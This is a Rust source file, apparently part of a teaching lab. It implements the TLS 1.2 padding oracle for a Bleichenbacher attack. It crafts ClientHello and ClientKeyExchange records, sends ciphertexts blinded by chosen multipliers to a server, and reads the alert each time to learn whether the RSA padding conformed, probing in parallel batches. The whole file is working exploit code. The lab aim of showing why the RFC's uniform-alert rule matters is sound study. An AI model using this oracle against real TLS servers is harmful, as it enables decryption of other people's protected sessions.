//! The oracle of the Bleichenbacher lab: a TLS 1.2 server asked, one
//! handshake at a time, to decrypt a ClientKeyExchange the attacker chose.
//!
//! Each query is one TCP connection that sends, in one go, a ClientHello
//! offering only RSA key transport, the ClientKeyExchange under test, a
//! ChangeCipherSpec and a Finished record of random bytes (the attacker has
//! no keys), and reads the server's answer up to its alert. A server that
//! keeps RFC 5246 §7.4.7.1 answers every ciphertext the same way: the
//! Finished cannot be decrypted, bad_record_mac. The switched server
//! answers a bad padding at once, with decrypt_error.

use std::io::Write as _;
use std::net::SocketAddr;

use padlock_tls::alert::AlertDescription;
use padlock_tls::messages::{ClientHello, Extensions, HandshakeType, KeyExchangeAlgorithm, frame};
use padlock_tls::suites::RSA_AES_128_GCM_SHA256;

use super::attack::Oracle;
use crate::nat::{ModN, Nat};
use crate::net::{self, CHANGE_CIPHER_SPEC, HANDSHAKE, RawRecord};

/// What the server did with a ClientKeyExchange.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Answer {
    /// It sent this alert.
    Alert(AlertDescription),
    /// It closed without an alert.
    Closed,
}

impl Answer {
    /// "decrypt_error", say.
    pub fn name(self) -> String {
        match self {
            Answer::Alert(description) => format!("alert {}", description.name()),
            Answer::Closed => "closed without an alert".into(),
        }
    }
}

/// A ClientHello offering TLS 1.2 with RSA key transport only, as a record.
pub(crate) fn client_hello(random: [u8; 32]) -> Result<Vec<u8>, String> {
    let hello = ClientHello {
        legacy_version: 0x0303,
        random,
        session_id: Vec::new(),
        cipher_suites: vec![RSA_AES_128_GCM_SHA256.id],
        compression_methods: vec![0],
        extensions: Extensions::default(),
    };
    let body = hello.encode().map_err(|e| e.to_string())?;
    let message = frame(HandshakeType::ClientHello, &body).map_err(|e| e.to_string())?;
    Ok(RawRecord::new(HANDSHAKE, &message).to_bytes())
}

/// One query: the server's answer to the ClientKeyExchange `ciphertext`.
pub(crate) fn probe(address: SocketAddr, hello: &[u8], ciphertext: &[u8]) -> Result<Answer, String> {
    let cke = padlock_tls::messages::encode_client_key_exchange(ciphertext, KeyExchangeAlgorithm::Rsa)
        .and_then(|body| frame(HandshakeType::ClientKeyExchange, &body))
        .map_err(|e| e.to_string())?;
    let mut flight = hello.to_vec();
    flight.extend(RawRecord::new(HANDSHAKE, &cke).to_bytes());
    flight.extend(RawRecord::new(CHANGE_CIPHER_SPEC, &[1]).to_bytes());
    // A "Finished" the attacker cannot encrypt: 8 + 16 + 16 bytes of nothing.
    flight.extend(RawRecord::new(HANDSHAKE, &[0x5a; 40]).to_bytes());
    let mut tcp = net::connect(address)?;
    tcp.write_all(&flight).map_err(|e| format!("send: {e}"))?;
    loop {
        match net::read_record(&mut tcp) {
            Ok(Some(record)) => {
                if let Some(code) = record.alert() {
                    return Ok(Answer::Alert(AlertDescription::from_u8(code)));
                }
            }
            Ok(None) | Err(_) => return Ok(Answer::Closed),
        }
    }
}

/// The server as a padding oracle for `c0`: a multiplier `s` is
/// "conforming" when the server answers `c0 s^e mod n` as it answers a
/// ciphertext known to be conforming.
pub(crate) struct TlsOracle {
    pub(crate) address: SocketAddr,
    pub(crate) hello: Vec<u8>,
    pub(crate) n: ModN,
    pub(crate) e: u64,
    pub(crate) k: usize,
    pub(crate) c0: Nat,
    /// The answer that means "conforming".
    pub(crate) yes: Answer,
    /// Queries in flight at once.
    pub(crate) width: usize,
}

impl TlsOracle {
    fn ciphertext(&self, s: &Nat) -> Result<Vec<u8>, String> {
        let c = self.n.mul(&self.c0, &self.n.pow(s, self.e));
        c.to_be_bytes(self.k).ok_or_else(|| "a ciphertext longer than n".to_string())
    }
}

impl Oracle for TlsOracle {
    fn conforming(&mut self, s: &Nat) -> Result<bool, String> {
        Ok(probe(self.address, &self.hello, &self.ciphertext(s)?)? == self.yes)
    }

    fn conforming_batch(&mut self, batch: &[Nat]) -> Result<Vec<bool>, String> {
        let ciphertexts: Vec<Vec<u8>> = batch.iter().map(|s| self.ciphertext(s)).collect::<Result<_, _>>()?;
        let (address, hello, yes) = (self.address, &self.hello, self.yes);
        std::thread::scope(|scope| {
            let asked: Vec<_> =
                ciphertexts.iter().map(|c| scope.spawn(move || probe(address, hello, c))).collect();
            asked
                .into_iter()
                .map(|handle| handle.join().map_err(|_| "an oracle thread panicked".to_string())?)
                .map(|answer| answer.map(|a| a == yes))
                .collect()
        })
    }

    fn width(&self) -> usize {
        self.width
    }
}
